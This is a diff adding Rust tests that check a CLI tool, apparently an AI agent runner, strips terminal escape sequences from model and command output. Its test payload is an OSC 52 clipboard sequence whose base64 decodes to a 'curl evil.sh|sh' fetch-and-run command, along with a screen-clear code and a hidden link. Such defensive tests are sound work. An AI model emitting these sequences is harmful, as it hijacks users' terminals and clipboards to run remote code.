@@ -1,0 +1,62 @@
+//! Escape sequences in what the model writes or a command prints never
+//! reach the terminal through `quire exec`'s human view: OSC 52 would set
+//! the clipboard, `ESC[2J` clear the screen.
+
+use serde_json::json;
+
+use crate::support::model_server::{Reply, Step};
+use crate::support::pty::Pty;
+use crate::support::quire::TestEnv;
+
+const HOSTILE: &str = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\x1b]8;;https://evil\x1b\\";
+
+fn hostile_turn(env: &TestEnv) {
+    env.server.push_all([
+        Reply::steps(vec![
+            Step::text(format!("before{HOSTILE}after")),
+            Step::tool_call(
+                "esc",
+                "shell",
+                json!({"command": "printf 'out\\033]52;c;ZXZpbA==\\007\\033[2J'; exit 3"}),
+            ),
+        ]),
+        Reply::text(format!("done{HOSTILE}")),
+    ]);
+}
+
+fn assert_inert(shown: &str) {
+    for bad in ["\x1b]", "\x1b[2J", "\x07"] {
+        assert!(
+            !shown.contains(bad),
+            "{bad:?} reached the terminal: {shown:?}"
+        );
+    }
+}
+
+#[test]
+fn a_terminal_gets_the_text_without_the_sequences() {
+    let env = TestEnv::new("responses");
+    hostile_turn(&env);
+    let mut pty = Pty::spawn(env.command(&["exec", "hi"]), 24, 200);
+    assert_eq!(pty.wait_exit(), 0);
+    let shown = pty.output();
+    assert!(
+        shown.contains("beforeafter") && shown.contains("done"),
+        "{shown:?}"
+    );
+    assert!(
+        shown.contains("exit 3"),
+        "the failed call is shown: {shown:?}"
+    );
+    assert_inert(&shown);
+}
+
+#[test]
+fn stderr_lines_are_clean_when_output_is_piped() {
+    let env = TestEnv::new("responses");
+    hostile_turn(&env);
+    let run = env.run(&["exec", "hi"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert!(run.stderr.contains("exit 3"), "{}", run.stderr);
+    assert_inert(&run.stderr);
+}
